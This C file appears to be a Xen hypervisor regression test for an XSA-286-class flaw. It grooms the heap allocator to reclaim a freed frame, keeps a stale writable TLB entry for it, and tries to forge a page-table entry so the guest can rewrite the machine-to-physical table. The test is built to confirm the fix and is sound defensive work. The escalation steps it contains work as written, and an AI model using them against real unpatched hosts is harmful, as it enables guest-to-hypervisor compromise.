/*
 * mmu_stale_tlb_reuse (hostile, XSA-286 class): keep a writable TLB entry
 * for a frame across its free and reuse. The guest maps frame F RW, gives
 * it back with decrease_reservation (flushed there, but F stays a zombie
 * while mapped), touches it again (the TLB now holds VA -> F writable),
 * unmaps it without a flush (F is freed at that last reference), gets F
 * back from the allocator and pins it as an L1: if the stale entry still
 * lives, the guest writes a PTE for an M2P frame into its own validated
 * L1, links it and rewrites the M2P. Xen stamps a freed frame with the TLB
 * flush clock and flushes, before handing it out or changing its type, any
 * CPU that has not flushed since (alloc_heap_pages, _get_page_type with
 * tlbflush_filter): the write through the old VA must fault.
 *
 * To get F back deterministically the test drives the next-fit allocator:
 * it cycles allocations until they wrap (the frame where they wrap is the
 * lowest free frame: that is F; the one before it is the top free frame
 * P), then cycles again up to P, so the next allocation after F is freed
 * wraps to F. All of this happens before the stale entry is made, since
 * decrease_reservation flushes.
 */
#include "pt.h"

const char test_title[] = "hostile: stale writable TLB entry across frame free and reuse";

#define BATCH 64

static uint64_t buf[BATCH];

static long reserve(unsigned int cmd, uint64_t *mfns, unsigned int n)
{
    struct xen_memory_reservation r = { .extent_start = (uint64_t)mfns, .nr_extents = n, .domid = DOMID_SELF };

    return memop(cmd, &r);
}

static bool give_back(uint64_t *mfns, unsigned int n)
{
    return reserve(XENMEM_decrease_reservation, mfns, n) == n;
}

/* Lap 1: cycle until the allocator wraps. *low = the lowest free frame (kept), *top = the top free one. */
static bool find_wrap(uint64_t *low, uint64_t *top, uint64_t *last)
{
    uint64_t prev = 0;

    for (uint64_t lap = 0; lap < 2 * pt_max_page / BATCH + 2; lap++) {
        if (reserve(XENMEM_increase_reservation, buf, BATCH) != BATCH)
            return false;
        for (unsigned int j = 0; j < BATCH; j++) {
            if (prev && buf[j] < prev) {
                *low = buf[j];
                *top = prev;
                *last = buf[BATCH - 1];
                buf[j] = buf[BATCH - 1];
                return give_back(buf, BATCH - 1);
            }
            prev = buf[j];
        }
        if (!give_back(buf, BATCH))
            return false;
    }
    return false;
}

/* Lap 2: cycle until `top` itself is allocated (and given back): the next allocation wraps. */
static bool advance_to(uint64_t top, uint64_t last)
{
    while (last != top) {
        unsigned int n = top - last > 2 * BATCH ? BATCH - 1 : 1;     /* F is kept: one less */
        if (reserve(XENMEM_increase_reservation, buf, n) != n)
            return false;
        for (unsigned int j = 0; j < n; j++) {
            if (buf[j] < last || buf[j] > top) {
                printk("lap 2: got %#lx after %#lx, top %#lx\n", (unsigned long)buf[j], (unsigned long)last,
                       (unsigned long)top);
                return false;
            }           /* wrapped early: the free frames are not as assumed */
            last = buf[j];
        }
        if (!give_back(buf, n))
            return false;
    }
    return true;
}

void test_main(void)
{
    volatile uint64_t *m2p = (volatile uint64_t *)MACH2PHYS_VIRT_START;
    uint64_t spare[BATCH], m2p_frame, f = 0, top = 0, last = 0, g, before, after;
    unsigned int l2s = pt_scratch_l2_slot + 1;
    volatile uint64_t *va, *forged;
    int slot;

    if (!pt_init() || !pt_m2p_frames(&m2p_frame, 1))
        return;
    /* Room under max_pages for the cycles. */
    for (unsigned int i = 0; i < BATCH; i++)
        spare[i] = pt_free_mfn();
    if (!give_back(spare, BATCH)) {
        test_error("giving back %u never-mapped frames", BATCH);
        return;
    }
    if (!find_wrap(&f, &top, &last) || !advance_to(top, last)) {
        test_skip("the allocator did not hand out frames in the order this test needs");
        return;
    }
    printk("allocator primed: F=%#lx is the lowest free frame, top free frame %#lx\n",
           (unsigned long)f, (unsigned long)top);

    slot = pt_alloc_slot();
    va = pt_slot_va(slot);
    expect_rc(pt_map(slot, f, L1_FLAGS_RW), 0, "map F RW");
    *va = 1;
    expect_rc(reserve(XENMEM_decrease_reservation, &f, 1), 1, "decrease_reservation of F, still mapped");
    if (!probe_write(va + 1, 2))                /* the zombie is still ours: this refills the TLB */
        test_fail("the mapping of the zombie does not work");
    expect_rc(uvm((uint64_t)va, 0, UVMF_NONE), 0, "unmap F without a flush (F is freed now)");
    if (reserve(XENMEM_increase_reservation, &g, 1) != 1) {
        test_error("increase_reservation after F was freed");
        return;
    }
    printk("allocator handed back %#lx (%s)\n", (unsigned long)g, g == f ? "F itself" : "not F");
    if (g != f) {
        test_skip("did not get F back");
        return;
    }
    expect_rc(mmuext1(MMUEXT_PIN_L1_TABLE, f, 0), 0, "pin F as an L1");

    before = m2p[1];
    if (probe_write(va, (m2p_frame << 12) | L1_FLAGS_RW | PTE_US)) {
        printk("wrote an M2P PTE into validated L1 F through the stale VA\n");
        test_fail("a stale writable TLB entry survived F's free and reuse as an L1");
        expect_rc(mmu_update1(pt_maddr(pt_l2, l2s), (f << 12) | LX_FLAGS), 0, "link F");
        forged = (volatile uint64_t *)(VIRT_BASE + ((uint64_t)l2s << 21));
        if (probe_write(forged + 1, 0x4141414141414141UL)) {
            after = m2p[1];
            printk("M2P[1] was %#lx, now %#lx: the M2P is the guest's\n", (unsigned long)before,
                   (unsigned long)after);
            forged[1] = before;
        }
        va[0] = 0;                              /* the forged entry holds no reference: clear it */
        uvm((uint64_t)forged, 0, UVMF_NONE);    /* fails: F's entry 0 is empty again; flush below */
        mmuext1(MMUEXT_TLB_FLUSH_LOCAL, 0, 0);
        expect_rc(mmu_update1(pt_maddr(pt_l2, l2s), 0), 0, "unlink F");
    } else if (last_trap.vector != TRAP_page_fault || (last_trap.err & 1)) {
        test_fail("write through the stale VA: vector %u error %#lx, want #PF not-present", last_trap.vector,
                  (unsigned long)last_trap.err);
    } else {
        printk("write through the stale VA faulted: F was flushed before reuse\n");
    }
    if (m2p[1] != before)
        test_fail("M2P[1] changed: %#lx, was %#lx", (unsigned long)m2p[1], (unsigned long)before);
    expect_rc(pt_read_entry(f, 0), 0, "F's entry 0 after the attempt");
    expect_rc(mmuext1(MMUEXT_UNPIN_TABLE, f, 0), 0, "unpin F");
    test_success();
}
